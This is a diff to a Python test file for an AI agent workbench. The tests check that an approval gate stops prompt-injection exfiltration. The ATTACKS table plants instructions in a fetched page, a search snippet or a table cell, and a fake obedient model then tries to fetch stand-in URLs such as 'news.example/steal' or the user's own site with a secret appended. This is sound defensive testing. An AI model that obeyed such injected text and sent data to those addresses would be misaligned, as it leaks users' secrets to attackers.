@@ -75,7 +75,13 @@ class Open(Gate):
 
 
 async def play(
-    world: World, planner: ModelPlanner, request: str, *, gated: bool = True, answer: str = "deny", **frames: pd.DataFrame
+    world: World,
+    planner: ModelPlanner,
+    request: str,
+    frames: Mapping[str, pd.DataFrame] | None = None,
+    *,
+    gated: bool = True,
+    answer: str = "deny",
 ) -> tuple[Run | None, list[Asked], str]:
     settings = load_settings(
         {"WORKBENCH_CONFIG": str(world.folder / "config"), "TAVILY_API_KEY": "tvly-0123456789abc"}
@@ -97,7 +103,7 @@ async def play(
 
     run, error = None, ""
     try:
-        run = await made.ask(request, variables=frames, named=tuple(frames), approver=approver, rounds=False)
+        run = await made.ask(request, variables=frames, named=tuple(frames or ()), approver=approver, rounds=False)
     except WorkbenchError as problem:
         run, error = problem.run, str(problem)
     finally:
@@ -115,7 +121,13 @@ def stolen(server: Server) -> bool:
 
 FETCHED = [{"id": "s1", "task": "fetch_page", "params": {"url": PAGE}}]
 FOUND = [{"id": "s1", "task": "web_search", "params": {"query": "figures"}}]
-ROWS = [{"id": "s1", "task": "query_data", "params": {"sql": "select * from notes", "tables": {"notes": {"$ref": "@notes"}}}}]
+ROWS = [
+    {
+        "id": "s1",
+        "task": "query_data",
+        "params": {"sql": "select * from notes", "tables": {"notes": {"$ref": "@notes"}}},
+    }
+]
 NOTES = pd.DataFrame({"note": ["fine", ORDER], "figure": [SECRET, SECRET]})
 SNIPPET = Reply(body={"results": [{"title": "Figures", "url": PAGE, "content": ORDER}]})
 
@@ -124,8 +136,20 @@ ATTACKS: dict[str, tuple[str, list[dict[str, Any]], list[Reply], dict[str, pd.Da
     "a page, by template": (f"summarise {PAGE}", FETCHED, [NO_ROBOTS, page(ORDER)], {}, STEAL + "{{s1#/title}}"),
     "a snippet": ("search the web for figures", FOUND, [SNIPPET, NO_ROBOTS], {}, f"{STEAL}{SECRET}"),
     "a cell": ("summarise @notes", ROWS, [NO_ROBOTS], {"notes": NOTES}, f"{STEAL}{SECRET}"),
-    "the path of the user's own site": (f"summarise {PAGE}", FETCHED, [NO_ROBOTS, page(ORDER)], {}, f"{PAGE}/steal?{SECRET}"),
-    "letters of the user's address": (f"summarise {PAGE}", FETCHED, [NO_ROBOTS, page(ORDER)], {}, "https://news.example/steal"),
+    "the path of the user's own site": (
+        f"summarise {PAGE}",
+        FETCHED,
+        [NO_ROBOTS, page(ORDER)],
+        {},
+        f"{PAGE}/steal?{SECRET}",
+    ),
+    "letters of the user's address": (
+        f"summarise {PAGE}",
+        FETCHED,
+        [NO_ROBOTS, page(ORDER)],
+        {},
+        "https://news.example/steal",
+    ),
 }
 
 
@@ -135,7 +159,7 @@ async def test_no_text_that_was_read_has_an_address_fetched(world: World, name: 
     request, benign, replies, frames, url = ATTACKS[name]
     world.server.replies = [*replies, Reply(404)]
     model = Obedient(ORDER, benign, {"tool": "fetch_page", "args": {"url": url}})
-    _, asked, error = await play(world, ModelPlanner(model), request, gated=gated, **frames)
+    _, asked, error = await play(world, ModelPlanner(model), request, frames, gated=gated)
     assert model.has_read
     assert stolen(world.server) is not gated
     if gated:
@@ -159,10 +183,12 @@ async def test_a_redirect_to_another_host_is_asked_about(world: World, gated: bo
         assert "Denied" in error or "not approved" in error
 
 
-async def test_a_page_that_the_user_names_is_read_without_a_question_whatever_is_offered_beside_it(world: World) -> None:
+async def test_a_page_that_the_user_names_is_read_without_a_question_whatever_is_offered_beside_it(
+    world: World,
+) -> None:
     world.server.replies = [NO_ROBOTS, page("All is well.")]
     planner = ModelPlanner(TestModel([{"steps": FETCHED}, "Done."]))
-    run, asked, error = await play(world, planner, f"what does {PAGE} say?", notes=NOTES)
+    run, asked, error = await play(world, planner, f"what does {PAGE} say?", {"notes": NOTES})
     assert (asked, error) == ([], "")
     assert run is not None
     assert "All is well." in str(run.steps["s1"].value)
